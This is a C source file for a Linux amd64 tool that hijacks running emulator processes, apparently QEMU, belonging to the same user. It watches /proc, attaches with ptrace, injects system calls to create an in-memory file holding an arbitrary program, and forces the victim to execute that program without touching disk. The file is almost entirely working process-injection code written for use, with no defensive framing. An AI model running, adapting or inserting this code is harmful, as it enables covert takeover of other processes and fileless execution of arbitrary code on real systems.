// Puts a program of its own in the place of an emulator that another process of the same user runs:
// `hijack NAME WORD FILE`, NAME being the last part of the emulator's path, and WORD the only word that
// it was given. It spares those that are to name their version, and goes on until it is killed.
//
// The victim, which may see no file at all, is made to hold FILE in memory and to execute that
// (ptrace(2)). Only for amd64.

#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char contents[16 << 20];
static size_t size;

static int runs(int pid, const char *name) {
  char link[64], path[4096];
  snprintf(link, sizeof link, "/proc/%d/exe", pid);
  ssize_t length = readlink(link, path, sizeof path - 1);
  if (length < 0) return 0;
  path[length] = 0;
  const char *last = strrchr(path, '/');
  return last && !strcmp(last + 1, name);
}

static size_t read_all(int pid, const char *name, char *bytes, size_t limit) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int file = open(path, O_RDONLY);
  ssize_t length = file < 0 ? -1 : read(file, bytes, limit);
  if (file >= 0) close(file);
  return length < 0 ? 0 : (size_t)length;
}

static int is_given(int pid, const char *word) {
  static char bytes[65536];
  size_t length = read_all(pid, "cmdline", bytes, sizeof bytes);
  const char *second = memchr(bytes, 0, length);
  if (!second || (size_t)(second + 1 - bytes) + strlen(word) + 1 != length) return 0;
  if (strcmp(second + 1, word)) return 0;
  length = read_all(pid, "environ", bytes, sizeof bytes);
  return !memmem(bytes, length, "QEMU_VERSION", 12);
}

// Has the stopped process make a system call, and returns what that returned.
static long call(int pid, long number, long first, long second, long third, long fourth, long fifth) {
  struct user_regs_struct registers;
  ptrace(PTRACE_GETREGS, pid, 0, &registers);
  // `syscall`, wherever it is.
  long text = ptrace(PTRACE_PEEKTEXT, pid, registers.rip, 0);
  ptrace(PTRACE_POKETEXT, pid, registers.rip, (text & ~0xffffL) | 0x050f);
  struct user_regs_struct changed = registers;
  changed.orig_rax = -1UL;
  changed.rax = (unsigned long)number;
  changed.rdi = (unsigned long)first;
  changed.rsi = (unsigned long)second;
  changed.rdx = (unsigned long)third;
  changed.r10 = (unsigned long)fourth;
  changed.r8 = (unsigned long)fifth;
  ptrace(PTRACE_SETREGS, pid, 0, &changed);
  int status;
  if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 || waitpid(pid, &status, 0) < 0) return -1;
  // What was executed has registers of its own.
  if (number == SYS_execveat) return 0;
  ptrace(PTRACE_GETREGS, pid, 0, &changed);
  ptrace(PTRACE_POKETEXT, pid, registers.rip, text);
  ptrace(PTRACE_SETREGS, pid, 0, &registers);
  return (long)changed.rax;
}

static int hijack(int pid) {
  int status;
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return 0;
  if (waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status)) return 0;
  struct user_regs_struct registers;
  ptrace(PTRACE_GETREGS, pid, 0, &registers);
  unsigned long name = (registers.rsp - 4096) & ~7UL;
  ptrace(PTRACE_POKEDATA, pid, name, 0);
  long file = call(pid, SYS_memfd_create, (long)name, 0, 0, 0, 0);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/fd/%ld", pid, file);
  int opened = open(path, O_WRONLY);
  if (opened < 0 || write(opened, contents, size) != (ssize_t)size) return 0;
  close(opened);
  call(pid, SYS_execveat, file, (long)name, 0, 0, AT_EMPTY_PATH);
  return ptrace(PTRACE_DETACH, pid, 0, 0) == 0;
}

int main(int count, char **words) {
  if (count != 4) return 64;
  FILE *file = fopen(words[3], "r");
  if (!file) return 1;
  size = fread(contents, 1, sizeof contents, file);
  for (;;) {
    DIR *directory = opendir("/proc");
    struct dirent *entry;
    while ((entry = readdir(directory))) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == getpid() || !runs(pid, words[1]) || !is_given(pid, words[2])) continue;
      if (!hijack(pid)) continue;
      puts("hijacked");
      fflush(stdout);
    }
    closedir(directory);
  }
}
